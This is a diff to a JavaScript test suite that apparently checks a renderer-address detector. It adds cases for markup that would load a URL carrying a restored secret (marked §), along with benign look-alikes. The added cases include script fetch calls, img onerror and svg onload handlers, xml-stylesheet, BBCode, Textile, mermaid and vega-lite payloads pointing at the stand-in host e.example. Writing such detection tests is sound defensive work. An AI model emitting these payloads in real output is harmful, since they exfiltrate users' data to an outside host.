@@ -65,6 +65,26 @@ const LOADED = [
   ...['<meta http-equiv="refresh" content="0; url=//e.example/§">', "<meta content='0;§' http-equiv=refresh>"],
   ...['<!-- <img alt=" --> <img src="//e.example/§">', '`<img alt="` <img src="//e.example/§">'],
   ...['<title><img alt="</title><img src="//e.example/§">', '<a href="x" title="<img src=//e.example/§">'],
+  ...[
+    '<script>fetch("//e.example/?q="+"§")</script>',
+    '<SCRIPT type=module>\nx = "§"',
+    "<p onclick=\"go('//e/'+'§')\">",
+  ],
+  ...['<img src=x onerror=fetch(`//e.example/§`)>', '<svg onload = "§">', '<?xml-stylesheet href="//e.example/§"?>'],
+  ...[
+    '<?xml-stylesheet type="text/css" href=\'//e.example/§\'?><a/>',
+    '[img]https://e.example/§[/img]',
+    '[IMG]§[/IMG]',
+  ],
+  ...['[img=//e.example/§]', '[img width=1 height=2]\nhttps://e.example/§[/img]', '[img src="//e.example/§"]'],
+  ...[
+    '!https://e.example/§!',
+    'see !{width:1px}https://e.example/?q=§!',
+    '!>//e.example/§(alt)!',
+    '(!https:e.example/§',
+  ],
+  ...['```mermaid\nflowchart LR\n A@{ img: "https://e.example/§" }\n```', '~~~ Mermaid\nA["//e.example/§"]'],
+  ...['```vega-lite\n{"data":{"url":"https://e.example/§"}}\n```', '> ````vega {x}\n> "values":[{"n":"§"}]'],
   ...['{"html":"<img src=\\"https://e.example/?q=§\\">"}', '{"md":"a\\n\\n[x]: https://e.example/§"}'],
   ...[
     '{"html":"<img alt=\\"a > b\\" src=\\"//e.example/§\\">"}',
@@ -97,6 +117,21 @@ const SHOWN = [
   ...['Map<String, List<Foo>> src = "§";', 'if (a < b && c > d) { src = "§"; }', 'for (i=0;i<n;i++) { data = "§" }'],
   ...['img.src = "§"', 'el.style = "§"', 'const a = <Foo name="§" />', '<Person id=1 data="§" to="§" href="§"/>'],
   ...['An `<img>` has src="§"', '{"src":"§"}', '{"html":"<a href=\\"//e/§\\">"}', 'if (![1, 2].includes(x)) run("§")'],
+  ...[
+    '<script src="a.js"></script> §',
+    '<script>a()</script>\n<p>§</p>',
+    'Wow!§',
+    'Stop!//e/§',
+    '!a! §',
+    '!a/b.png! §',
+  ],
+  ...['[img]//e.example/a.png[/img] §', '[img=//e.example/a.png][/img] §', '[imgur] §', '[image: §]', 'a[im] §'],
+  ...[
+    '```mermaid\nA[§] --> B[§]\n```',
+    '```mermaid\nA["//e.example/a"]\nB[§]\n```\n§',
+    '```json\n{"url":"//e/§"}\n```',
+  ],
+  ...['```vega-lite\n{"a":1}\n```\n§', 'the language mermaid //e/§', '<?php echo "§" ?>', '<p data-on="§">'],
   ...['background: url(§)', '<br> src="§"', '< img src="§">', '</img src="§">'],
 ];
 
@@ -196,6 +231,17 @@ describe('addresses that a renderer loads', () => {
       '`',
       '[x]: /',
       ']',
+      ...[
+        '[img]',
+        '[img=',
+        '!',
+        '!//',
+        '```vega\n',
+        '```mermaid\n//',
+        '<script>',
+        '<p onx="',
+        '<?xml-stylesheet href="',
+      ],
     ];
     for (const piece of [...pieces, pieces.join('')])
       for (const before of ['', '<a'])
@@ -206,6 +252,7 @@ describe('addresses that a renderer loads', () => {
 });
 
 const PIECES = [
+  ...['[img]', '[img=', '[/img]', '!//e.example/', '```mermaid\n', '```\n', '<script>', '</script>', ' onclick="'],
   ...[
     TAG,
     TAG,
@@ -314,7 +361,9 @@ describe('responses with addresses that a renderer loads', () => {
   }).timeout(120_000);
 
   it('restore all other known pseudonyms', () => {
-    const innocent = PIECES.filter((piece) => !/!|<img|<p |<svg|<image|<source|<iframe|<style|<x|]:|<a|=/i.test(piece));
+    const innocent = PIECES.filter(
+      (piece) => !/!|\[\/?img|mermaid|script|<img|<p |<svg|<image|<source|<iframe|<style|<x|]:|<a|=/i.test(piece),
+    );
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...innocent), { maxLength: 14 }), (parts) => {
         const text = parts.join('');
